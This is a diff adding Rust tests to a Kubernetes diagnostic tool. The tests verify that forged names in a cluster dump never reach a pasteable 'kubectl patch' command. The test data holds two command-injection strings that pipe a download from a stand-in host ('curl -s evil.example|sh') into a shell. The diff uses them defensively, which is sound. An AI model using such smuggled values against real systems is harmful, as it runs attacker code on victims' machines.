@@ -672,3 +672,73 @@ fn a_tag_never_pushed_across_workloads_is_one_incident_with_a_rollback_for_each(
         "{message}"
     );
 }
+
+/// Edits `namespace/file` of a dump in place.
+fn edit_dump(dump: &Path, namespace: &str, file: &str, edit: impl FnOnce(&mut serde_json::Value)) {
+    let path = dump.join(namespace).join(file);
+    let mut value: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
+    edit(&mut value);
+    std::fs::write(&path, value.to_string()).unwrap();
+}
+
+/// The Pod of `items` whose name starts with `prefix`.
+fn pod_named<'a>(items: &'a mut serde_json::Value, prefix: &str) -> &'a mut serde_json::Value {
+    items["items"]
+        .as_array_mut()
+        .unwrap()
+        .iter_mut()
+        .find(|p| p["metadata"]["name"].as_str().unwrap().starts_with(prefix))
+        .unwrap()
+}
+
+/// A Service's fix is advice with a `kubectl patch` command a person may paste into a shell.
+/// The API server validates the names in it, but a dump's are whatever the file says: a forged
+/// label value or port name is still named as the cause (quoted, for a person to see), and no
+/// command is built from it.
+#[test]
+fn names_a_dump_forged_never_reach_a_command_to_paste() {
+    let forged_label = "session-redis-$(curl -s evil.example|sh)";
+    let forged_port = "redis';curl -s evil.example|sh;'";
+    let cases = [
+        (
+            "crashloop-service-selector-typo",
+            "/metadata/labels/app",
+            forged_label,
+            "selector",
+        ),
+        (
+            "crashloop-service-target-port-wrong",
+            "/spec/containers/0/ports/0/name",
+            forged_port,
+            "6380",
+        ),
+    ];
+    for (scenario, field, forged, cause) in cases {
+        // First as the scenario is: the command is there.
+        let dump = scenario_dump(scenario);
+        let path = dump.path().to_str().unwrap();
+        let message = |reports: &[DiagnosticReport]| {
+            let status = reports[0].status.clone().unwrap();
+            (
+                status.findings.unwrap().root_cause,
+                status.message.unwrap_or_default(),
+            )
+        };
+        let (_, advice) = message(&reports(&["diagnose", "--dump", path, "-o", "json"]));
+        assert!(
+            advice.contains("kubectl patch service sessions-redis"),
+            "{scenario}: {advice}"
+        );
+        edit_dump(dump.path(), "web", "pods.json", |pods| {
+            *pod_named(pods, "sessions-redis-")
+                .pointer_mut(field)
+                .unwrap() = forged.into();
+        });
+        let reports = reports(&["diagnose", "--dump", path, "-o", "json"]);
+        assert_eq!(reports.len(), 1, "{scenario}");
+        let (root_cause, advice) = message(&reports);
+        assert!(root_cause.contains(cause), "{scenario}: {root_cause}");
+        assert!(!advice.contains("kubectl patch"), "{scenario}: {advice}");
+    }
+}
